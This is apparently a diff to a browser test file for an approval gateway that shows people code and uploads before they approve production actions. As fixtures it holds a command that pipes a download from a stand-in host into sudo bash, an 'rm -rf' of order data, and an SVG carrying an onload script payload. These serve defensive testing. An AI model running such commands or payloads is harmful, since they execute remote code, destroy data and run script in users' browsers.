@@ -1,8 +1,11 @@
 """What a person should read before a yes: code is open, the button says what to read first, and the gateway knows what was read."""
 
 import base64
+import struct
+import zlib
 
 from tests.browser.kit import NARROW
+from tests.content.test_archive import packed
 
 APPROVE = ".decide button:text-is('Approve in prod')"
 SHORT = ["#!/bin/bash", "curl -s https://x.example/i | sudo bash", "rm -rf /srv/orders/data"]
@@ -101,3 +104,50 @@ def test_user_data_is_decoded_and_a_password_stays_folded(visit, stage):
     assert "hunter2" not in page.content()
     assert "decoded from Base64" in page.inner_text(".code")
     assert "1 part not shown" in page.inner_text("#not-shown")
+
+
+def test_an_archive_is_a_list_of_files_with_their_text(visit, stage):
+    stage.ask(service="lambda", operation="UpdateFunctionCode", params={"ZipFile": packed({"index.py": "import os\n"})})
+    page = visit().enter()
+    assert [line.strip() for line in page.locator(".code .line").all_inner_texts()] == [
+        *("1 file, 10 bytes unpacked", "10  index.py", "", "index.py:", "import os", "")
+    ]
+    assert "the files of an archive" in page.inner_text(".code")
+
+
+def png() -> bytes:
+    """A picture of one point."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
+
+    head = struct.pack(">2L5B", 1, 1, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")
+
+
+def test_a_picture_is_shown_by_its_bytes_after_a_press(visit, stage):
+    ask = stage.ask(body=png(), streamed=True)
+    page = visit().enter()
+    page.click("text=Read the upload first")
+    page.wait_for_selector("text=a picture in PNG")
+    assert page.locator("dialog img").count() == 0
+    page.click("text=Show the picture")
+    page.wait_for_selector("text=End of the picture.")
+    page.wait_for_function("document.querySelector('dialog img').naturalWidth === 1")
+    page.click("dialog button:text-is('Close')")
+    page.click(APPROVE)
+    assert ask.outcome() == "approve"
+
+
+def test_what_only_begins_as_a_picture_is_none_and_svg_never_is(visit, stage):
+    stage.ask(body=png()[:20], streamed=True)
+    page = visit().enter()
+    page.click("text=Read the upload first")
+    page.click("text=Show the picture")
+    page.wait_for_selector("text=This is no picture that can be shown.")
+    page.keyboard.press("Escape")
+    svg = stage.ask(body=b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", streamed=True)
+    page.click(f"[data-call='{svg.id}']")
+    page.click("text=Read the upload first")
+    page.wait_for_selector("text=End of the text.")
+    assert page.locator("text=Show the picture").count() == 0
